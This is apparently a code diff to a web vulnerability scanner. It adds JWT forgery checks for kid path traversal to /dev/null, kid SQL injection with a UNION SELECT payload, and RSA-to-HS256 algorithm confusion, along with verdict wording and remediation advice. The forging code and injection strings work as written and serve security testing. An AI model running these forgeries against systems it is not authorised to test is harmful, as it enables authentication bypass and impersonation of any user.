@@ -15,9 +15,21 @@ attack those). The techniques are those of jwt_tool and PortSwigger's JWT labs:
    ``NONE`` and ``nOnE`` with an empty signature; the signature stripped; the claims re-signed with
    the cracked key and an added claim. A forgery answered like the genuine token while the garbage
    signature was rejected is a finding; the same forgery is sent again to confirm.
+4. **Key-id tricks** (3 requests, tokens whose header has a ``kid``; jwt_tool's ``-I -hc kid``,
+   PortSwigger's "kid header path traversal" lab): a server that reads the key from a file named by
+   ``kid`` reads an empty file for ``../../../../../../../../dev/null`` (and ``/dev/null``, which an
+   ``os.path.join`` keeps absolute); the token is signed with the empty key (HMAC pads keys with
+   zero bytes, so a key of one NUL byte verifies too). A server that looks the key up in SQL by
+   ``kid`` returns our key for ``x' UNION SELECT '<key>'-- ``; the token is signed with ``<key>``.
+5. **Algorithm confusion** (2 requests per public key, at most 2 keys; RS/PS tokens only): with the
+   RSA public keys the engine found for the origin (``ctx.public_keys``: its JWK Set, its OpenID
+   metadata's ``jwks_uri``, PEM blocks in recorded responses), the header's ``alg`` set to HS256 and
+   the token signed with the PEM file's bytes (:mod:`lunge.checks.jwks`, both serialisations): a
+   library that verifies with "the key" and the token's own ``alg`` accepts it.
 
 Judged by :mod:`lunge.checks.accepted`: only where the genuine token's answer is a stable success.
-Budget for a token that resists: 2 + 5 (+ 1) = 7 or 8 requests per point; none without a token.
+Budget for a token that resists: 2 + 5 (+ 1) = 7 or 8 requests per point, + 3 with a ``kid``, + 4
+for an RSA token whose issuer publishes its key; none without a token.
 """
 
 from __future__ import annotations
@@ -33,6 +45,7 @@ from typing import Any
 
 from lunge.checks import accepted, datafiles
 from lunge.checks.base import Attack, Check, CheckContext, Confidence, Exchange, Probe, Severity, Verdict
+from lunge.checks.jwks import RsaKey
 from lunge.http.points.encoded import jwt_layer
 
 
@@ -102,9 +115,21 @@ def _encode(document: dict[str, Any]) -> str:
     return b64url(json.dumps(document, separators=(",", ":")).encode())
 
 
-def sign(alg: str, key: str, signing_input: str) -> str:
-    """The HMAC signature (base64url) of ``signing_input`` with ``key`` for ``alg`` (HS256/384/512)."""
-    return b64url(hmac.new(key.encode(), signing_input.encode("ascii"), _HASHES[alg]).digest())
+def sign(alg: str, key: str | bytes, signing_input: str) -> str:
+    """The HMAC signature (base64url) of ``signing_input`` with ``key`` for ``alg`` (HS256/384/512).
+
+    >>> sign("HS256", "", "e30.e30") == sign("HS256", b"\\0", "e30.e30")  # keys are zero-padded
+    True
+    """
+    secret = key.encode() if isinstance(key, str) else key
+    return b64url(hmac.new(secret, signing_input.encode("ascii"), _HASHES[alg]).digest())
+
+
+def forge(header: dict[str, Any], body: str, key: str | bytes) -> str:
+    """A token of ``header`` (its ``alg`` must be an HMAC one) and payload part ``body``, signed with
+    ``key``."""
+    head = _encode(header)
+    return f"{head}.{body}.{sign(str(header['alg']), key, f'{head}.{body}')}"
 
 
 def crack(token: Token) -> str | None:
@@ -158,7 +183,39 @@ def _forgeries(ctx: CheckContext, token: Token, key: str | None) -> list[tuple[s
         claims = {**_lasting_claims(token), "lunge": ctx.marker()}
         body = _encode(claims)
         out.append(("jwt:cracked-key", f"{token.head}.{body}.{sign(token.alg, key, f'{token.head}.{body}')}"))
+    return [*out, *kid_forgeries(ctx, token), *confusion_forgeries(token, ctx.public_keys)]
+
+
+KID_FILES = ("../../../../../../../../dev/null", "/dev/null")  # an empty file on every Unix
+MAX_PUBLIC_KEYS = 2
+
+
+def kid_forgeries(ctx: CheckContext, token: Token) -> list[tuple[str, str]]:
+    """Tokens whose ``kid`` names an empty file (signed with the empty key) or injects our key
+    into an SQL lookup (signed with it); only for a token that carries a ``kid``."""
+    if "kid" not in token.header:
+        return []
+    body = lasting(token)
+    hs = {**token.header, "alg": "HS256"}
+    out = [("jwt:kid-path-traversal", forge({**hs, "kid": path}, body, b"")) for path in KID_FILES]
+    secret = ctx.marker(16)
+    sql = f"{ctx.marker(6)}' UNION SELECT '{secret}'-- "
+    out.append(("jwt:kid-sql-injection", forge({**hs, "kid": sql}, body, secret)))
     return out
+
+
+def confusion_forgeries(token: Token, keys: tuple[RsaKey, ...]) -> list[tuple[str, str]]:
+    """HS256 tokens signed with each serialisation of each public key (RS/PS tokens only).
+
+    >>> t = parse_token("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln")
+    >>> [label for label, _ in confusion_forgeries(t, (RsaKey(65537, 3),))]
+    ['jwt:alg-confusion-spki-pem', 'jwt:alg-confusion-pkcs1-pem']
+    """
+    if not token.alg.startswith(("RS", "PS")):
+        return []
+    header = {**token.header, "alg": "HS256"}
+    return [(f"jwt:alg-confusion-{name}", forge(header, lasting(token), pem))
+            for key in keys[:MAX_PUBLIC_KEYS] for name, pem in key.pems()]
 
 
 def _send(ctx: CheckContext, token: Token, forged: str, label: str) -> Attack:
@@ -211,17 +268,31 @@ def _verdict(ctx: CheckContext, exchange: Exchange, controls: tuple[Exchange, ..
              answers: list[Exchange]) -> Verdict:
     label = exchange.attack.label.removeprefix("jwt:")
     others = [a.attack.label.removeprefix("jwt:") for a in answers if accepted.accepted(ctx, a)]
-    how = (f"the key {key!r} from the built-in wordlist verifies the recorded signature (offline); "
-           if label == "cracked-key" else "")
+    technique = "alg-confusion" if label.startswith("alg-confusion") else label
+    how = _HOW.get(technique, "")
+    if label == "cracked-key":
+        how = f"the key {key!r} from the built-in wordlist verifies the recorded signature (offline); "
+    forged = parse_token(exchange.attack.payload)
     return JWT.verdict(
         ctx, exchange, proof=accepted.excerpt(exchange), confidence=Confidence.CERTAIN,
         confirmation=f"{how}the forged token ({label}) was answered like the genuine one twice, while the same "
                      f"token with a random signature (status {controls[2].status}) and no token at all "
                      f"(status {controls[1].status}) were refused",
         controls=controls,
-        details={"technique": label, "accepted_forgeries": others, "cracked_key": key},
+        details={"technique": technique, "forgery": label, "accepted_forgeries": others, "cracked_key": key,
+                 "header": forged.header if forged else None},
         severity=Severity.CRITICAL if label == "cracked-key" else None,
     )
+
+
+_HOW = {
+    "kid-path-traversal": "the forged header's kid names an empty file (/dev/null) and the token is signed with "
+                          "the empty key; ",
+    "kid-sql-injection": "the forged header's kid injects a UNION SELECT of our own key into the key lookup and "
+                         "the token is signed with that key; ",
+    "alg-confusion": "the forged token says HS256 and is signed with the bytes of the application's own RSA "
+                     "public key (PEM) as the HMAC secret; ",
+}
 
 
 JWT = Check(
@@ -231,12 +302,15 @@ JWT = Check(
     severity=Severity.HIGH,
     cwe=347,
     description="The application accepts a JSON Web Token whose signature it did not verify: alg none, a "
-    "stripped or random signature, or a token re-signed with a guessable HMAC key. Anyone can mint tokens "
-    "for any identity.",
+    "stripped or random signature, a token re-signed with a guessable HMAC key, a key id that points the key "
+    "lookup at an empty file or at a key of our own (SQL), or an HS256 token signed with the application's "
+    "public RSA key. Anyone can mint tokens for any identity.",
     run=_run,
     applies=_applies,
+    uses_public_keys=True,
     remediation="Verify every token with a fixed algorithm list that excludes none (never the token's own alg "
     "header), reject tokens without a valid signature, and sign HMAC tokens with a random key of 256 bits "
-    "or more kept out of the source.",
+    "or more kept out of the source. Look keys up by kid in a fixed table (never a path or a query built "
+    "from it), and bind each key to its algorithm.",
 )
 CHECKS = (JWT,)
